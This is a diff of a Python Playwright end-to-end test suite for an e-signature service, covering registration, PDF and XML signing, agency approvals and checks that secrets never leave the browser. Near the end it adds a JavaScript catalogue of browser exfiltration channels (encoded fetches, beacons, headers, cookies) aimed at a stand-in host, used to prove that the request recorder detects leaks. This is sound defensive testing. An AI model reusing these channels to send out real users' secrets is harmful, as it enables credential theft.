@@ -1,12 +1,24 @@
-"""A citizen's life in a real browser against the running service, in both languages."""
+"""A citizen's life in a real browser against the running service, in both languages.
 
+Everything that is downloaded here goes to EU DSS as it is, and so do copies with a bit changed.
+"""
+
+import secrets
+from contextlib import ExitStack
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from playwright.sync_api import expect
 
-from rubrica.phone import Phone
-from tests.testkit.browser import agency_site, violations
+from rubrica.newcomer import Citizen
+from rubrica.phone import NoMessage, Phone
+from rubrica_client import NewDocument
+from tests.e2e.test_agency import over
+from tests.testkit.browser import agency_site, loads_at_once, violations
+from tests.testkit.desk import csv_on
+from tests.testkit.faces import FACES
+from tests.testkit.outages import signatures
 from tests.testkit.service import Activated
 
 SAMPLES = Path(__file__).resolve().parents[1] / "samples" / "good"
@@ -54,16 +66,37 @@ def read_every_page(visitor, count):
         assert picture.evaluate("image => image.naturalWidth") > 500
 
 
+# As people choose them: each of these signs looks different in an address, in a form and in JSON.
+PASSWORD = 'Cigüeña & 7 "olmos" +/%'
+
+
+def registered(desk, locale):
+    """Somebody whom the office entered with a wrong phone, and what it handed over once that was mended."""
+    person = replace(Citizen.draw(), password=PASSWORD)
+    wrong = desk.register(person, phone=Citizen.draw().phone, language=locale[:2])
+    # One officer alone cannot give another phone and a new code, not even by signing twice.
+    for second in ("", desk.registrar):
+        refused = desk.renewing(person, phone=person.phone, supervisor=second)
+        assert (refused.returncode, refused.stdout) == (1, "")
+    right = desk.renew(person, phone=person.phone, supervisor=desk.supervisor, language=locale[:2])
+    assert right.code != wrong.code
+    return person, wrong, right
+
+
 @pytest.mark.parametrize("locale", LANGUAGES)
-def test_from_the_activation_code_to_a_validated_signature(service, visit, locale, tmp_path):
-    person, code = service.register()
+def test_the_whole_life(service, desk, court, visit, locale, tmp_path):
+    person, wrong, paper = registered(desk, locale)
+    for name, each in {"acceptance": wrong.acceptance, "receipt": paper.receipt}.items():
+        assert court.passes(f"life-{locale}/{name}", each, "PAdES-BASELINE-B").signed_by
+        assert desk.command("verify", csv_on(each), str(each)).returncode == 0
     phone = Phone(service.running.inbox, person.phone)
     visitor = visit(locale)
     page = visitor.page
 
     page.goto(service.running.gate)
     visitor.look("gate-home")
-    otps = [activate(visitor, service, person, code, phone)]
+    the_older_code_is_over(visitor, service, person, wrong.code, phone)
+    otps = [activate(visitor, service, person, paper.code, phone)]
     page.goto(service.running.edge)
     visitor.look("sign-1-choose")
     visitor.bring(service.running.edge, TWO_PAGES)
@@ -80,8 +113,9 @@ def test_from_the_activation_code_to_a_validated_signature(service, visit, local
     otps.append(visitor.type_code(phone.code(visitor.reference())))
     page.wait_for_url(review_url)
     visitor.look("sign-3-done")
-    signed = downloaded(visitor, "section.card .button:not(.second)", tmp_path / "signed.pdf")
-    assert signed.read_bytes().startswith(b"%PDF")
+    signed = downloaded(visitor, DOWNLOAD, tmp_path / "signed.pdf")
+    assert signed.read_bytes().startswith(TWO_PAGES.read_bytes())
+    assert "NÚÑEZ" in court.passes(f"life-{locale}/pdf", signed, "PAdES-BASELINE-LTA").signed_by.upper()
     receipt = downloaded(visitor, "a[href$='/receipt']", tmp_path / "receipt.jws")
     assert receipt.read_bytes().count(b".") == 2
     page.locator("section.card .button.second").click()
@@ -93,8 +127,52 @@ def test_from_the_activation_code_to_a_validated_signature(service, visit, local
         check(visitor, service, file, notice)
         visitor.look(f"check-2-report-{notice}")
 
+    otps.append(sign_an_xml(visitor, service, court, Activated(person, phone), tmp_path))
+
     assert visitor.sent.holds(person.nif)  # so the record does see what is typed
-    assert [secret for secret in (person.password, code, code.lower(), *otps) if visitor.sent.holds(secret)] == []
+    typed = (person.password, wrong.code, paper.code, *otps)
+    assert [secret for secret in typed if said(visitor, secret)] == []
+
+
+DOWNLOAD = "section.card .button:not(.second)"
+
+
+def said(visitor, secret):
+    """Whether a page sent it, also as it is typed in lower case or without hyphens."""
+    return any(visitor.sent.holds(each) for each in {secret, secret.lower(), secret.replace("-", "")})
+
+
+def the_older_code_is_over(visitor, service, person, code, phone):
+    visitor.page.goto(f"{service.running.gate}/activate")
+    for name, value in (("nif", person.nif), ("email", person.email), ("code", code)):
+        visitor.page.fill(f"#{name}", value)
+    visitor.page.locator("[data-step='begin'] button[type=submit]").click()
+    # It looks like any other, and nothing is sent.
+    with pytest.raises(NoMessage):
+        phone.code(visitor.reference(), wait_seconds=1)
+    visitor.page.locator("[data-again]").click()
+
+
+def sign_an_xml(visitor, service, court, citizen, folder):
+    page = visitor.page
+    document = folder / "expediente.xml"
+    document.write_text("<expediente><asunto>Solicitud</asunto><importe>1.234,56</importe></expediente>")
+    visitor.bring(service.running.edge, document)
+    expect(page.locator(".text")).to_contain_text("  <asunto>Solicitud</asunto>")
+    visitor.look("sign-2-review-xml")
+    visitor.to_the_gate()
+    visitor.type_password(citizen.person.nif, citizen.person.password)
+    otp = visitor.type_code(citizen.phone.code(visitor.reference()))
+    page.wait_for_url("**/review/*")
+    signed = downloaded(visitor, DOWNLOAD, folder / "signed.xml")
+    assert signed.read_bytes().startswith(b"<expediente><asunto>Solicitud</asunto>")
+    court.passes(f"life-{visitor.language}/xml", signed, "XAdES-BASELINE-B")
+    check(visitor, service, signed, "good")
+    visitor.look("check-2-report-xml")
+    broken = folder / "broken.xml"
+    broken.write_bytes(signed.read_bytes().replace(b"1.234,56", b"9.234,56"))
+    check(visitor, service, broken, "bad")
+    return otp
 
 
 def downloaded(visitor, selector, path):
@@ -119,38 +197,24 @@ def check(visitor, service, file, notice):
     expect(visitor.page.locator(f".notice.{notice}")).to_be_visible()
 
 
-def test_an_xml_document(service, visit, citizen, tmp_path):
-    document = tmp_path / "expediente.xml"
-    document.write_text("<expediente><asunto>Solicitud</asunto><importe>1.234,56</importe></expediente>")
-    visitor = visit()
-    page = visitor.page
-
-    visitor.bring(service.running.edge, document)
-    expect(page.locator(".text")).to_contain_text("  <asunto>Solicitud</asunto>")
-    visitor.look("sign-2-review-xml")
-    visitor.to_the_gate()
-    visitor.type_password(citizen.person.nif, citizen.person.password)
-    visitor.type_code(citizen.phone.code(visitor.reference()))
-    page.wait_for_url("**/review/*")
-    signed = downloaded(visitor, "section.card .button:not(.second)", tmp_path / "signed.xml")
-
-    assert signed.read_bytes().startswith(b"<expediente><asunto>Solicitud</asunto>")
-    check(visitor, service, signed, "good")
-    broken = tmp_path / "broken.xml"
-    broken.write_bytes(signed.read_bytes().replace(b"1.234,56", b"9.234,56"))
-    check(visitor, service, broken, "bad")
-
-
-def test_an_agency_asks_for_three_documents_and_one_approval(service, visit, citizen, tmp_path):
+@pytest.mark.parametrize("face", FACES)
+def test_an_agency_asks_for_three_documents_and_one_approval(face, service, court, visit, citizen, tmp_path):
     visitor = visit()
     page = visitor.page
     documents = [PDF, TWO_PAGES, SIGNED_BEFORE]
-    returns = []
-    page.on("request", lambda request: returns.append(request.url) if "/return?" in request.url else None)
+    nonce = secrets.token_hex(8)
+    before = signatures(service)
 
-    with agency_site() as home, service.agency(home) as agency:
-        transaction_id, review_url = service.submit(agency, citizen, documents, return_url=home)
-        page.goto(review_url)
+    with ExitStack() as stack:
+        home = stack.enter_context(agency_site())
+        agency = over(face, service, stack, home)
+        sent = agency.send(
+            [NewDocument(path.stem, path) for path in documents],
+            citizen_nif=citizen.person.nif,
+            return_url=home,
+            nonce=nonce,
+        )
+        page.goto(sent.review_url)
         expect(page.locator(".facts")).to_contain_text("Ayuntamiento de Pruebas")
         read_every_page(visitor, 4)
         expect(page.locator(".notice.warning")).to_have_count(1)  # the one that was signed before
@@ -159,27 +223,39 @@ def test_an_agency_asks_for_three_documents_and_one_approval(service, visit, cit
         expect(page.locator("[data-title]")).to_have_text([path.stem for path in documents])
         visitor.look("authorise-1-password-agency")
         visitor.type_password(citizen.person.nif, citizen.person.password)
+        returns = loads_at_once(visitor, 4)
         otp = visitor.type_code(citizen.phone.code(visitor.reference()))
         page.wait_for_url(f"{home}?result=*")
         first_result = page.url
-        signed = service.collect(agency, transaction_id, documents, tmp_path)
-        before = [path.read_bytes() for path in signed]
+        # Five browsers' worth of the same return address, and one approval: each document is signed once.
+        assert {(status, place) for status, place in returns.answers()} == {(303, first_result)}
+        signed = service.collect(agency, sent.id, documents, tmp_path)
+        assert signatures(service) == before + 3
+        claims = agency.verify_result(first_result.partition("?result=")[2], service.token_key, nonce=nonce)
+        assert claims["request"]
+        contents = [path.read_bytes() for path in signed]
 
         # The return address again: the same answer, and nothing is signed a second time.
-        (return_url,) = returns
-        page.goto(return_url)
+        page.goto(returns.url)
         page.wait_for_url(f"{home}?result=*")
         assert page.url == first_result
-        again = service.collect(agency, transaction_id, documents, tmp_path)
-        assert [path.read_bytes() for path in again] == before
+        again = service.collect(agency, sent.id, documents, tmp_path)
+        assert [path.read_bytes() for path in again] == contents
+        assert signatures(service) == before + 3
 
-    page.goto(review_url)
+    for number, path in enumerate(signed, 1):
+        assert path.read_bytes().startswith(documents[number - 1].read_bytes())
+        court.passes(f"agency-{face}/{number}", path, "PAdES-BASELINE-LTA")
+    page.goto(sent.review_url)
     visitor.look("sign-3-done-agency")
-    check(visitor, service, signed[0], "good")
+    got = downloaded(visitor, DOWNLOAD, tmp_path / "got.pdf")
+    assert got.read_bytes() == contents[0]
+    check(visitor, service, got, "good")
+    assert visitor.sent.holds(citizen.person.nif)
     assert [secret for secret in (citizen.person.password, otp) if visitor.sent.holds(secret)] == []
     # Another browser sees that it is signed, and gets nothing.
     stranger = visit("en-GB")
-    stranger.page.goto(review_url)
+    stranger.page.goto(sent.review_url)
     expect(stranger.page.locator("section.card")).to_have_count(0)
     stranger.look("sign-3-done-stranger")
 
@@ -219,16 +295,54 @@ def test_the_password_is_changed_by_keyboard_alone(service, visit, locale):
     visitor.look("password-3-done")
 
     assert [secret for secret in (citizen.person.password, fresh, otp) if visitor.sent.holds(secret)] == []
-    renewed = Activated(type(citizen.person)(**{**fields_of(citizen.person), "password": fresh}), citizen.phone)
     visitor.bring(service.running.edge, PDF)
     visitor.to_the_gate()
-    visitor.type_password(renewed.person.nif, fresh)
-    visitor.type_code(renewed.phone.code(visitor.reference()))
+    visitor.type_password(citizen.person.nif, fresh)
+    visitor.type_code(citizen.phone.code(visitor.reference()))
     page.wait_for_url("**/review/*")
 
 
-def fields_of(person):
-    return {name: getattr(person, name) for name in ("nif", "phone", "email", "password")}
+LEAKS = r"""
+const post = body => fetch('/', {method: 'POST', body});
+const octets = text => unescape(encodeURIComponent(text));
+const WAYS = {
+  address: s => fetch('/?a=' + encodeURIComponent(s)),
+  addressCodedTwice: s => fetch('/?a=' + encodeURIComponent(encodeURIComponent(s))),
+  image: s => { new Image().src = '/i?' + encodeURIComponent(s) },
+  form: s => post(new URLSearchParams({a: s})),
+  formWithParts: s => { const form = new FormData(); form.set('a', s); return post(form) },
+  json: s => post(JSON.stringify({a: s})),
+  jsonEscaped: s => post([...s].map(c => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join('')),
+  base64: s => post(btoa(octets(s))),
+  base64BehindOne: s => post(btoa(octets('x' + s + 'yz'))),
+  base64BehindTwo: s => post(btoa(octets('xy' + s + 'z'))),
+  base64url: s => post(btoa(octets(s)).replaceAll('+', '-').replaceAll('/', '_')),
+  hexadecimal: s => post([...octets(s)].map(c => c.charCodeAt(0).toString(16).padStart(2, '0')).join('')),
+  beacon: s => navigator.sendBeacon('/', s),
+  header: s => fetch('/', {headers: {'X-A': encodeURIComponent(s)}}),
+  basic: s => fetch('/', {headers: {Authorization: 'Basic ' + btoa(octets('a:' + s))}}),
+  cookie: s => { document.cookie = 'a=' + encodeURIComponent(s); return fetch('/') },
+};
+"""
+
+
+@pytest.mark.parametrize("secret", [PASSWORD, "042137", "803Z-B5RF-HJG4-P2937"])
+def test_the_record_would_see_a_secret_whichever_way_it_goes(visit, secret):
+    visitor = visit()
+    page = visitor.page
+    page.route("**/*", lambda route: route.fulfill(body="<!doctype html>", content_type="text/html"))
+    page.goto("https://leaking.example/")
+    page.evaluate("code => { self.WAYS = Function(code + 'return WAYS')() }", LEAKS)
+    ways = page.evaluate("Object.keys(WAYS)")
+    unseen = []
+    for way in ways:
+        visitor.sent.raw.clear()
+        with page.expect_request("**/*"):
+            page.evaluate("([way, secret]) => WAYS[way](secret)", [way, secret])
+        if not visitor.sent.holds(secret) or visitor.sent.holds("another secret"):
+            unseen.append(way)
+    assert len(ways) > 10
+    assert unseen == []
 
 
 def test_a_language_once_chosen_stays(service, visit):
